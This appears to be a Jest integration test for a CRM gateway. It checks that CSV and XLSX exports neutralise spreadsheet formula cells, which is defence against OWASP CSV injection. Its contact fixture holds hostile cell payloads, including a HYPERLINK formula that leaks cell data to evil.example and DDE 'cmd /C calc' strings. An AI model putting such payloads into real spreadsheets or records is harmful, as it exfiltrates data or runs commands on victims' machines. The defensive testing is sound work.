import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { RunningService } from '@kinship/platform';
import { createTestEnvironment, startTestService, type TestEnvironment } from '@kinship/testing';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { authService } from '../../auth/src/auth.service.js';
import { crmService } from '../../crm/src/crm.service.js';
import { eventually } from '../../crm/test/support.js';
import { startGateway } from '../src/gateway.js';

// --- the stack: auth, crm and the gateway of this suite, talked to only through HTTP ---

const JWT_SECRET = 'security-inputs-secret-shared-by-gateway-and-auth';
const PASSWORD = 'amber-cobalt-violin-meadow-4';

/** An answer, as crm's test support reads them (its expectError and eventually serve here too). */
interface Reply {
  status: number;
  body: any;
  headers: Headers;
}

/** Someone signed in (a user's access token) or an API key. */
interface Caller {
  userId: string;
  workspaceId: string;
  credentials: Record<string, string>;
  request(method: string, path: string, body?: unknown, headers?: Record<string, string>): Promise<Reply>;
}

let environment: TestEnvironment;
let auth: RunningService;
let crm: RunningService;
let gateway: RunningService;
let api: string;

beforeAll(async () => {
  environment = await createTestEnvironment('security-inputs');
  auth = await startTestService(authService, environment, { JWT_SECRET });
  crm = await startTestService(crmService, environment);
  gateway = await startGateway({ ...environment.env, JWT_SECRET });
  api = `${gateway.url}/api/v1`;
}, 60_000);

afterAll(async () => {
  await gateway?.close();
  await crm?.close();
  await auth?.close();
  await environment?.dispose();
});

async function send(method: string, path: string, credentials: Record<string, string>, body?: unknown, headers: Record<string, string> = {}): Promise<Reply> {
  const bodyText = body === undefined ? undefined : typeof body === 'string' ? body : JSON.stringify(body);
  const response = await fetch(`${api}${path}`, {
    method,
    headers: { ...credentials, ...(bodyText === undefined ? {} : { 'content-type': 'application/json' }), ...headers },
    body: bodyText,
  });
  const type = response.headers.get('content-type') ?? '';
  const text = await response.text();
  return { status: response.status, body: type.includes('json') && text ? JSON.parse(text) : text, headers: response.headers };
}

function callerOf(userId: string, workspaceId: string, credentials: Record<string, string>): Caller {
  return { userId, workspaceId, credentials, request: (method, path, body, headers) => send(method, path, credentials, body, headers) };
}

async function signUp(label: string): Promise<Caller> {
  const registered = await send('POST', '/auth/register', {}, { email: `${label}-${randomBytes(4).toString('hex')}@example.com`, password: PASSWORD, name: label, workspaceName: `${label} workspace` });
  expect(registered.status).toBe(201);
  return callerOf(registered.body.user.id, registered.body.workspace.id, { authorization: `Bearer ${registered.body.accessToken}` });
}

describe('finding 4: CSV exports neutralise formula cells (OWASP CSV injection)', () => {
  let owner: Caller;

  async function exported(entity: string, format: 'csv' | 'xlsx', filter: Record<string, unknown>): Promise<Buffer> {
    const created = await owner.request('POST', '/exports', { entity, filter, format });
    expect(created.status).toBe(202);
    await eventually(async () => {
      const status = await owner.request('GET', `/exports/${created.body.id}`, undefined, { accept: 'application/json' });
      expect(status.body.status).not.toBe('failed');
      return status.body.status === 'completed';
    }, 30_000);
    const file = await fetch(`${api}/exports/${created.body.id}`, { headers: owner.credentials });
    expect(file.status).toBe(200);
    return Buffer.from(await file.arrayBuffer());
  }

  beforeAll(async () => {
    owner = await signUp('csv');
    expect((await owner.request('POST', '/custom-fields', { entity: 'contact', key: 'note', label: 'Note', type: 'text' })).status).toBe(201);
    expect((await owner.request('POST', '/custom-fields', { entity: 'contact', key: 'balance', label: 'Balance', type: 'number' })).status).toBe(201);
    const contact = await owner.request('POST', '/contacts', {
      firstName: '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
      lastName: '@SUM(1+1)*cmd|\' /C calc\'!A0',
      jobTitle: '-2+3+cmd|\' /C calc\'!A0',
      leadSource: '+SUM(1,2)',
      phone: '+14155550123',
      tags: ['csv-injection', '=1+1'],
      customFields: { note: '-5', balance: -5 },
    });
    expect(contact.status).toBe(201);
  });

  it('prefixes cells starting with = + - @ with a quote, and leaves an E.164 phone, a plain number and numeric fields as they are', async () => {
    const rows: Array<Record<string, string>> = parse(await exported('contacts', 'csv', { tags: ['csv-injection'] }), { columns: true });
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      firstName: '\'=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
      lastName: '\'@SUM(1+1)*cmd|\' /C calc\'!A0',
      jobTitle: '\'-2+3+cmd|\' /C calc\'!A0',
      leadSource: '\'+SUM(1,2)',
      phone: '+14155550123',
      tags: 'csv-injection;=1+1',
      'cf:note': '-5',
      'cf:balance': '-5',
    });
  });

  it('keeps XLSX cells as inline strings, never formulas', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await exported('contacts', 'xlsx', { tags: ['csv-injection'] })) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const headers = (sheet.getRow(1).values as unknown[]).slice(1);
    const cell = (header: string) => sheet.getRow(2).getCell(headers.indexOf(header) + 1);
    expect(cell('firstName').type).toBe(ExcelJS.ValueType.String);
    expect(cell('firstName').value).toBe('=HYPERLINK("http://evil.example/?leak="&A1,"click me")');
    expect(cell('phone').value).toBe('+14155550123');
    expect(cell('cf:balance').value).toBe(-5);
  });
});
